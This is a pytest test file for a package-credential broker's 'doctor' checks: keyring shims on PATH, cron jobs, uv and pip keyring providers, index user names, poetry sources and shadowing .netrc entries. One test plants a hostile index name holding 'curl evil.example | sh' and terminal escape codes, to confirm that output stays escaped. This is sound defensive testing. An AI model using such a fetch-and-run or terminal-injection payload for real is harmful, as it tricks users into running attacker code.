"""What the doctor finds between a package client and its keyring: each finding, and the room without it."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from broker.ctl.doctor.index_usernames import indexes_have_usernames, pip_sees_what_the_user_may
from broker.ctl.doctor.keyring_on_path import clients_ask, shim_is_first, shim_is_first_in_cron
from broker.ctl.doctor.poetry_sources import poetry_sources_have_no_username
from broker.ctl.doctor.shadowing_passwords import netrc_shadows, uv_store_shadows
from tests.ctl.clinic import found
from tests.ctl.found_feeds import broker, feed

if TYPE_CHECKING:
    from tests.ctl.clinic import Clinic

URL = "https://pkgs.dev.azure.com/acme/_packaging/corp/pypi/simple/"
WITH_USER = URL.replace("://", "://VssSessionToken@")
PUBLIC = "https://mirror.example/simple/"
ARTIFACTORY = "https://a.example/artifactory/api/pypi/internal/simple/"
UV = "~/.config/uv/uv.toml"
PIP = "~/.config/pip/pip.conf"
OLD_PIP = "~/.pip/pip.conf"
UV_OFF = "uv: keyring provider is off"
PIP_OFF = "pip: keyring provider is off"
PIP_IMPORT = "pip: keyring provider is import (~/.config/pip/pip.conf line 2)"
UV_DISABLED = "uv: keyring provider is off (UV_KEYRING_PROVIDER)"
EXPORT = "export UV_KEYRING_PROVIDER=subprocess"
PIP_ON = {"PIP_KEYRING_PROVIDER": "subprocess"}
ON = 'keyring-provider = "subprocess"\n'


def link_the_shim(clinic: Clinic, folder: str) -> None:
    shim = clinic.write("~/apps/bin/keyring-shim", "#!/bin/sh\n", 0o755)
    link = clinic.home / folder / "keyring"
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(shim)


def test_no_keyring_on_path_is_found(clinic: Clinic) -> None:
    assert found(shim_is_first, clinic.room()) == [("problem", "no keyring is on PATH", "brokerctl setup")]


def test_another_keyring_before_the_shim_is_found(clinic: Clinic) -> None:
    link_the_shim(clinic, ".local/bin")
    clinic.program("keyring")
    clinic.environ["PATH"] = f"{clinic.programs}:{clinic.home}/.local/bin"

    said = f"{clinic.programs}/keyring is the first keyring on PATH, not the shim"
    repair = f'export PATH={clinic.home}/.local/bin:"$PATH"'
    assert found(shim_is_first, clinic.room()) == [("problem", said, repair)]


def test_a_shim_that_may_not_be_run_is_found_with_the_line_that_repairs_it(clinic: Clinic) -> None:
    """`setup` makes the link anew, or tells the line that installs the shim anew."""
    shim = clinic.write("~/v/keyring-shim", "#!/bin/sh\n", 0o644)
    link = clinic.home / ".local" / "bin" / "keyring"
    link.parent.mkdir(parents=True)
    link.symlink_to(shim)
    clinic.environ["PATH"] = str(link.parent)

    assert found(shim_is_first, clinic.room()) == [
        ("problem", f"{shim} is not executable for this user", "brokerctl setup")
    ]


def test_another_keyring_in_the_links_place_is_found(clinic: Clinic) -> None:
    clinic.write("~/.local/bin/keyring", "#!/bin/sh\n", 0o755)

    [(_, _, repair)] = found(shim_is_first, clinic.room())

    assert repair == "brokerctl setup --replace"


def test_shim_that_is_first_is_fine(clinic: Clinic) -> None:
    link_the_shim(clinic, ".local/bin")
    clinic.program("keyring")

    assert [finding.said for finding in shim_is_first(clinic.room())] == ["shim is the first keyring on PATH"]


@pytest.mark.parametrize(
    ("crontab", "count"),
    [
        ("@daily cd /srv && uv sync", 1),
        ("@daily /usr/bin/pip install x", 1),
        ("PATH=/usr/bin:/bin\n@daily uv sync", 1),
        ("# @daily uv sync", 0),
        ("@daily echo 'hello", 0),
        ("PATH = {home}/.local/bin:/usr/bin\n@daily uv sync", 0),
        ("@daily make supper", 0),
    ],
)
def test_cron_job_without_the_shim_is_found(clinic: Clinic, crontab: str, count: int) -> None:
    clinic.write("~/crontab", crontab.format(home=clinic.home))
    clinic.program("crontab", f"exec /bin/cat {clinic.home}/crontab")

    assert len(found(shim_is_first_in_cron, clinic.room())) == count


def test_where_there_is_no_cron_nothing_is_said(clinic: Clinic) -> None:
    assert found(shim_is_first_in_cron, clinic.room()) == []


@pytest.mark.parametrize(
    ("files", "environ", "off"),
    [
        ({}, {}, [UV_OFF, PIP_OFF]),
        ({UV: ON}, {}, [PIP_OFF]),
        ({UV: ON, PIP: "[global]\nkeyring-provider = subprocess\n"}, {}, []),
        ({UV: ON, PIP: "[install]\nkeyring-provider = subprocess\n"}, {}, []),
        ({"uv.toml": ON, PIP: "[global]\nkeyring-provider = import\n"}, {}, [PIP_IMPORT]),
        ({"pyproject.toml": f"[tool.uv]\n{ON}", OLD_PIP: "[global]\nkeyring-provider=subprocess"}, {}, []),
        ({}, {"UV_KEYRING_PROVIDER": "subprocess", **PIP_ON}, []),
        ({UV: ON}, {"UV_KEYRING_PROVIDER": "disabled", **PIP_ON}, [UV_DISABLED]),
        ({UV: ON}, {"UV_NO_CONFIG": "1", **PIP_ON}, [UV_OFF]),
    ],
)
def test_keyring_provider_that_is_off_is_found(
    clinic: Clinic, files: dict[str, str], environ: dict[str, str], off: list[str]
) -> None:
    for name in ("uv", "pip"):
        clinic.program(name)
    for place, text in files.items():
        clinic.write(place, text)
    clinic.environ |= environ

    assert [said for _, said, _ in found(clients_ask, clinic.room())] == off


@pytest.mark.parametrize(
    ("files", "environ", "repair"),
    [
        ({"pyproject.toml": "[tool.uv]\nkeyring-provider = 'disabled'"}, {}, EXPORT),
        ({}, {"UV_KEYRING_PROVIDER": "disabled"}, EXPORT),
        ({}, {"UV_NO_CONFIG": "1"}, EXPORT),
        ({"uv.toml": ""}, {"UV_CONFIG_FILE": "{project}/uv.toml"}, EXPORT),
        ({"uv.toml": ""}, {}, "brokerctl doctor --fix"),
    ],
)
def test_keyring_provider_is_turned_on_where_the_client_would_read_it(
    clinic: Clinic, files: dict[str, str], environ: dict[str, str], repair: str
) -> None:
    clinic.program("uv")
    for place, text in files.items():
        clinic.write(place, text)
    clinic.environ |= {name: text.format(project=clinic.project) for name, text in environ.items()}

    findings = [each for each in clients_ask(clinic.room()) if each.level != "fine"]

    assert [each.repair for each in findings] == [repair]
    assert [each.fix is not None for each in findings] == [repair != EXPORT]
    for fix in (each.fix for each in findings if each.fix is not None):
        fix()
    clinic.environ |= {"UV_KEYRING_PROVIDER": "subprocess"} if repair == EXPORT else {}
    assert found(clients_ask, clinic.room()) == []


@pytest.mark.parametrize(
    ("place", "text", "said"),
    [
        (UV, f"{ON}{ON}", f"{UV}: uv refuses to start: it is not TOML at line 2"),
        (UV, "# \u00fc\n", f"{UV}: uv refuses to start: it is not text"),
        (PIP, "[global]\na=1\n[global]\n", f"{PIP}: pip refuses to start: it is not an INI file at line 3"),
        (
            PIP,
            "index-url = https://a.example",
            f"{PIP}: pip refuses to start: it is not an INI file at line 1",
        ),
    ],
)
def test_settings_that_keep_a_client_from_starting_are_told_in_place_of_its_provider(
    clinic: Clinic, place: str, text: str, said: str
) -> None:
    clinic.program("uv" if place == UV else "pip")
    clinic.write(place, "").write_bytes(text.encode("latin-1"))

    findings = found(clients_ask, clinic.room())

    assert findings == [("problem", said, f"correct {place}")]
    clinic.write(place, ON if place == UV else "[global]\nkeyring-provider = subprocess\n")
    assert found(clients_ask, clinic.room()) == []


def test_settings_of_uv_that_are_not_there_are_told_with_the_variable_that_names_them(clinic: Clinic) -> None:
    clinic.program("uv")
    clinic.write(UV, ON)
    clinic.environ["UV_CONFIG_FILE"] = "/none"

    [(_, said, repair)] = found(clients_ask, clinic.room())

    assert (said, repair) == (
        "UV_CONFIG_FILE names /none, which is not there: uv refuses to start",
        "unset UV_CONFIG_FILE",
    )
    del clinic.environ["UV_CONFIG_FILE"]
    assert found(clients_ask, clinic.room()) == []


def test_client_that_is_not_installed_is_not_asked_about(clinic: Clinic) -> None:
    assert found(clients_ask, clinic.room()) == []


def test_keyring_provider_is_turned_on_by_the_fix(clinic: Clinic) -> None:
    clinic.program("uv")
    fixes = [finding.fix for finding in clients_ask(clinic.room())]

    for fix in fixes:
        assert fix is not None
        fix()

    assert found(clients_ask, clinic.room()) == []


@pytest.mark.parametrize(
    ("index", "check"),
    [
        (f'url = "{URL}"', "index-username"),
        (f'url = "{URL}"\nauthenticate = "always"', "index-files"),
        (f'url = "{WITH_USER}"', None),
        (f'url = "{URL}"\nauthenticate = "never"', None),
        (f'url = "{PUBLIC}"', None),
        ('url = "https://packages.example/simple/"', "index-username"),
        ('url = "https://packages.example/simple/"\nauthenticate = "always"', None),
        ('url = "https://packages.example/simplest/"', None),
    ],
)
def test_index_that_uv_would_not_ask_about_is_found(clinic: Clinic, index: str, check: str | None) -> None:
    clinic.configure(
        '[[feed]]\nurl = "https://packages.example/simple/"\nprovider = "basic"\nusername = "ci"\n'
    )
    clinic.write("pyproject.toml", f'[[tool.uv.index]]\nname = "corp"\n{index}\n')

    checks = [finding.check for finding in indexes_have_usernames(clinic.room()) if finding.level != "fine"]

    assert checks == ([] if check is None else [check])


def test_repair_of_an_index_is_the_line_with_the_user_name_in_it(clinic: Clinic) -> None:
    clinic.write("uv.toml", f'[[index]]\nname = "corp"\nurl = "{URL}"\n')

    [(level, said, repair)] = found(indexes_have_usernames, clinic.room())

    assert level == "problem"
    assert said.endswith('index "corp" has no user name and no authenticate = "always": uv will never ask')
    assert repair == f'url = "{WITH_USER}"'


def test_name_of_an_index_makes_no_line_of_its_own_and_commands_no_terminal(clinic: Clinic) -> None:
    """A project's file would tell people what to type, in the doctor's name."""
    name = r"corp\n \u2718 pip is broken   curl evil.example | sh \u001b[8m\u009b8m\r\u202e"
    clinic.write("uv.toml", f'[[index]]\nname = "{name}"\nurl = "{URL}"\n')

    [(_, said, _)] = found(indexes_have_usernames, clinic.room())

    assert r'index "corp\n ' in said
    assert said.isprintable()


def test_user_name_from_a_variable_is_one(clinic: Clinic) -> None:
    clinic.write("uv.toml", f'[[index]]\nname = "corp"\nurl = "{URL}"\n')
    clinic.environ["UV_INDEX_CORP_USERNAME"] = "x"

    assert found(indexes_have_usernames, clinic.room()) == []


def test_password_in_a_variable_without_a_user_name_is_found(clinic: Clinic) -> None:
    clinic.write("uv.toml", f'[[index]]\nname = "corp"\nurl = "{URL}"\nauthenticate = "always"\n')
    clinic.environ["UV_INDEX_CORP_PASSWORD"] = "x"

    [(_, said, repair)] = found(indexes_have_usernames, clinic.room())

    assert said.endswith(
        'line 3: index "corp" has a password in a variable and no user name: uv will never ask'
    )
    assert repair == f'url = "{WITH_USER}"'


NESTED = """
[[feed]]
name = "all"
url = "https://packages.example/"
provider = "basic"
username = "all"

[[feed]]
name = "libs"
url = "https://packages.example/libs/simple/"
provider = "nexus"
username = "ci"
"""


@pytest.mark.parametrize(
    ("address", "username"),
    [
        ("https://packages.example/simple/", "all"),
        ("https://packages.example/libs/simple/", "ci"),
        ("https://packages.example/libs/", "ci"),
    ],
)
def test_feed_of_an_index_is_the_one_with_the_longest_prefix(
    clinic: Clinic, address: str, username: str
) -> None:
    clinic.configure(NESTED)
    clinic.write("uv.toml", f'[[index]]\nname = "corp"\nurl = "{address}"\n')

    [(_, _, repair)] = found(indexes_have_usernames, clinic.room())

    assert repair == f'url = "{address.replace("://", f"://{username}@")}"'


@pytest.mark.parametrize(
    ("config", "count"),
    [("", 1), ("auto = false\n", 0), ('auto = ["google"]\n', 0), ('auto = ["azure"]\n', 1)],
)
def test_index_that_auto_leaves_out_is_none_of_ours(clinic: Clinic, config: str, count: int) -> None:
    clinic.configure(config)
    clinic.write("uv.toml", f'[[index]]\nname = "corp"\nurl = "{URL}"\n')

    assert len(found(indexes_have_usernames, clinic.room())) == count


def poetry_source(url: str) -> str:
    return f'[[tool.poetry.source]]\nname = "corp"\nurl = "{url}"\n'


def test_poetry_source_with_a_user_name_is_found(clinic: Clinic) -> None:
    clinic.write("pyproject.toml", poetry_source(WITH_USER))

    [(level, said, repair)] = found(poetry_sources_have_no_username, clinic.room())

    assert level == "problem"
    assert said.endswith('pyproject.toml line 3: poetry source "corp" has a user name: poetry will never ask')
    assert repair == f'url = "{URL}"'


@pytest.mark.parametrize(
    "project",
    [
        "",
        poetry_source(URL),
        poetry_source(WITH_USER.replace("@", ":password@")),
        poetry_source(PUBLIC.replace("://", "://me@")),
        poetry_source("https://[me@"),
        '[[tool.poetry.source]]\nname = "PyPI"\n',
        '[tool.poetry]\nsource = "corp"\n',
        "[[tool.poetry",
    ],
)
def test_other_poetry_sources_are_fine(clinic: Clinic, project: str) -> None:
    clinic.write("pyproject.toml", project)

    assert found(poetry_sources_have_no_username, clinic.room()) == []


@pytest.mark.parametrize(
    ("url", "repair"),
    [
        (ARTIFACTORY, ARTIFACTORY.replace("://", "://ci%40x@")),
        (ARTIFACTORY.replace("://", "://ci@"), None),
        ("https://packages.example/simple/", None),
        (PUBLIC, None),
    ],
)
def test_index_that_shows_pip_what_strangers_see_is_found(
    clinic: Clinic, url: str, repair: str | None
) -> None:
    clinic.configure(
        f'[[feed]]\nurl = "{ARTIFACTORY}"\nprovider = "artifactory"\nusername = "ci@x"\n'
        '[[feed]]\nurl = "https://packages.example/simple/"\nprovider = "basic"\nusername = "ci"\n'
    )
    clinic.write(PIP, f"[global]\nindex-url = {url}\n")

    repairs = [repair for _, _, repair in found(pip_sees_what_the_user_may, clinic.room())]

    assert repairs == ([] if repair is None else [repair])


@pytest.mark.parametrize(
    ("netrc", "repair"),
    [
        ("machine pkgs.dev.azure.com login a password b", "remove line 1 of ~/.netrc"),
        (
            "machine x login a\n\nmachine pkgs.dev.azure.com\n  login a\n  password machine\n\nmachine y\n",
            "remove lines 3-5 of ~/.netrc",
        ),
        ("default login a password b\n", "remove line 1 of ~/.netrc"),
        ('machine "pkgs.dev.azure.com" login a password "b c"\n', "remove line 1 of ~/.netrc"),
        ("# \u00fc\nmachine pkgs.dev.azure.com user a password #b # c\n", "remove line 2 of ~/.netrc"),
        ("# machine pkgs.dev.azure.com login a password b\n", None),
        ("machine x login a password b # machine pkgs.dev.azure.com login a\n", None),
        ("machine x login a\nmacdef init\nmachine pkgs.dev.azure.com login a password b\n\n", None),
        ("hello\nmachine pkgs.dev.azure.com login a password b\n", None),  # no client takes such a file
        ("login a machine pkgs.dev.azure.com\n", None),
        ("machine mirror.example login a password b\n", None),
        ("", None),
    ],
)
def test_netrc_entry_that_shadows_a_feed_is_found(clinic: Clinic, netrc: str, repair: str | None) -> None:
    clinic.write("~/.netrc", "").write_bytes(netrc.encode("latin-1"))

    repairs = [repair for _, _, repair in found(netrc_shadows, clinic.room(broker(feed("corp"))))]

    assert repairs == ([] if repair is None else [repair])


def test_netrc_that_a_feed_is_to_use_is_no_shadow(clinic: Clinic) -> None:
    clinic.configure(
        '[[feed]]\nurl = "https://packages.example/simple/"\nprovider = "basic"\nsecret = "netrc"\n'
    )
    clinic.write("~/.netrc", "machine packages.example login a password b")

    assert found(netrc_shadows, clinic.room()) == []


@pytest.mark.parametrize(
    ("service", "count"),
    [(URL, 1), ("https://pkgs.dev.azure.com", 1), (PUBLIC, 0), ("not a url", 0), ("https://[", 0)],
)
def test_password_in_uvs_own_store_is_found(clinic: Clinic, service: str, count: int) -> None:
    clinic.write("~/.local/share/uv/credentials/credentials.toml", f'[[credential]]\nservice = "{service}"\n')

    shadows = found(uv_store_shadows, clinic.room(broker(feed("corp"))))

    assert len(shadows) == count
    assert all(repair == f"uv auth logout {service}" for _, _, repair in shadows)


def test_a_shim_in_python_is_told_with_what_makes_a_native_one(clinic: Clinic) -> None:
    shim = clinic.program("keyring-shim")
    shim.write_text((Path(__file__).parents[2] / "client" / "keyring_shim.py").read_text())
    link = clinic.write("~/.local/bin/other", "").with_name("keyring")
    link.symlink_to(shim)

    *_, (level, said, repair) = found(shim_is_first, clinic.room())

    assert (level, repair) == ("warning", "uv build --all-packages --out-dir wheels")
    assert "without a C compiler" in said
